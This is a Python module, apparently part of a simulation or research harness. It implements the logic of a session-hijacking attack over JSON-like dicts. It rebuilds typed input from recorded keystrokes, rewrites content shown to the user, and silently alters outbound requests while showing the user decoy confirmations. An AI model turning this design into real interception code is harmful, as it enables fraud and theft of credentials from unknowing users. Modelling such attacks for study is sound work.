"""Declarative rewrite engine for hijacked app sessions.

Three kinds of rewriting over JSON-shaped payloads (plain nested dicts):
eavesdropping on a recorded input stream, rewriting server content before
it is displayed, and rewriting user input before it reaches the server
while keeping a decoy value for the user-facing confirmation.

All functions are pure: payloads are deep-copied, never mutated in place,
and fields not named by a selector come back byte-identical.
"""

from __future__ import annotations

import copy
import hashlib
from dataclasses import dataclass
from enum import Enum
from typing import Any, Iterable, Optional


class Phase(str, Enum):
    DISPLAY = "display"
    REQUEST = "request"
    CONFIRM_DISPLAY = "confirm_display"


class GuiKind(str, Enum):
    CLICK = "click"
    DRAG = "drag"
    KEYSTROKE = "keystroke"
    HEAD_MOTION = "head_motion"


@dataclass(frozen=True)
class TransformRule:
    rule_id: str
    phase: Phase
    selector: str  # dot-separated path into the payload
    value: Any
    trigger: Optional[str] = None  # set only for trigger-conditioned rewrites


@dataclass(frozen=True)
class GuiActionRecord:
    at_ms: int
    kind: GuiKind
    target_field: str
    value: Optional[str] = None

    def __post_init__(self) -> None:
        if self.kind == GuiKind.KEYSTROKE and self.value is None:
            raise ValueError("keystroke records carry a value")


@dataclass
class Credential:
    app_id: str
    username: str
    secret: str

    def redacted(self, salt: str = "") -> dict:
        digest = hashlib.sha256((salt + self.secret).encode("utf-8")).hexdigest()[:16]
        return {
            "app_id": self.app_id,
            "username": self.username,
            "secret_len": len(self.secret),
            "secret_digest": digest,
        }


def get_path(payload: dict, selector: str) -> Any:
    node: Any = payload
    for part in selector.split("."):
        if not isinstance(node, dict) or part not in node:
            raise KeyError(selector)
        node = node[part]
    return node


def set_path(payload: dict, selector: str, value: Any) -> None:
    parts = selector.split(".")
    node: Any = payload
    for part in parts[:-1]:
        if not isinstance(node, dict) or part not in node:
            raise KeyError(selector)
        node = node[part]
    if not isinstance(node, dict) or parts[-1] not in node:
        raise KeyError(selector)
    node[parts[-1]] = value


def has_path(payload: dict, selector: str) -> bool:
    try:
        get_path(payload, selector)
        return True
    except KeyError:
        return False


def eavesdrop(
    actions: Iterable[GuiActionRecord],
    form_schema: dict[str, str],
    misses: Optional[list[str]] = None,
) -> list[dict]:
    """Reconstruct per-field input values from a recorded action stream.

    The attacker knows the full form layout (the schema), so keystrokes can
    be attributed exactly. Actions on unknown fields are collected into
    ``misses`` and otherwise ignored.
    """
    values: dict[str, str] = {}
    order: list[str] = []
    for action in actions:
        if action.target_field not in form_schema:
            if misses is not None:
                misses.append(action.target_field)
            continue
        if action.kind == GuiKind.KEYSTROKE:
            if action.target_field not in values:
                values[action.target_field] = ""
                order.append(action.target_field)
            values[action.target_field] += action.value or ""
    return [{"field": f, "value": values[f]} for f in order]


def _apply_rules(
    payload: dict,
    rules: Iterable[TransformRule],
    observed_triggers: Optional[set[str]],
    misses: Optional[list[str]],
) -> dict:
    out = copy.deepcopy(payload)
    for rule in rules:
        if rule.trigger is not None:
            if observed_triggers is None or rule.trigger not in observed_triggers:
                continue
        if not has_path(out, rule.selector):
            # A stealthy rewrite prefers silent passthrough over a visible
            # failure, so a missing path skips the rule.
            if misses is not None:
                misses.append(rule.rule_id)
            continue
        set_path(out, rule.selector, rule.value)
    return out


def apply_display_transform(
    content: dict,
    rules: Iterable[TransformRule],
    misses: Optional[list[str]] = None,
) -> dict:
    rules = list(rules)
    for rule in rules:
        if rule.phase != Phase.DISPLAY:
            raise ValueError(f"rule {rule.rule_id} is not a display rule")
    return _apply_rules(content, rules, None, misses)


def apply_input_transform(
    request: dict,
    rules: Iterable[TransformRule],
    observed_triggers: Optional[set[str]] = None,
    misses: Optional[list[str]] = None,
) -> tuple[dict, dict[str, Any]]:
    """Rewrite an outbound request; return (outbound, display_overrides).

    Request-phase rules change what the server receives. Confirm-display
    rules do not touch the request at all: they produce overrides applied to
    the *next* confirmation content so the user still sees their own value.
    """
    rules = list(rules)
    request_rules = []
    display_overrides: dict[str, Any] = {}
    for rule in rules:
        if rule.phase == Phase.REQUEST:
            request_rules.append(rule)
        elif rule.phase == Phase.CONFIRM_DISPLAY:
            if rule.trigger is None or (
                observed_triggers is not None and rule.trigger in observed_triggers
            ):
                display_overrides[rule.selector] = rule.value
        else:
            raise ValueError(f"rule {rule.rule_id} is not an input-phase rule")
    outbound = _apply_rules(request, request_rules, observed_triggers, misses)
    return outbound, display_overrides


def apply_overrides(
    content: dict,
    overrides: dict[str, Any],
    misses: Optional[list[str]] = None,
) -> dict:
    out = copy.deepcopy(content)
    for selector, value in overrides.items():
        if not has_path(out, selector):
            if misses is not None:
                misses.append(selector)
            continue
        set_path(out, selector, value)
    return out


def rules_from_config(set_id: str, entries: list[dict]) -> list[TransformRule]:
    """Build a named rule set from its scenario-file block."""
    rules = []
    for i, entry in enumerate(entries):
        action = entry.get("action", {})
        if "set" in action:
            value, trigger = action["set"], None
        elif "set_on_trigger" in action:
            value = action["set_on_trigger"]["value"]
            trigger = action["set_on_trigger"]["trigger"]
        else:
            raise ValueError(f"transform set {set_id!r} entry {i} has no action")
        rules.append(
            TransformRule(
                rule_id=entry.get("rule_id", f"{set_id}[{i}]"),
                phase=Phase(entry["phase"]),
                selector=entry["selector"],
                value=value,
                trigger=trigger,
            )
        )
    return rules
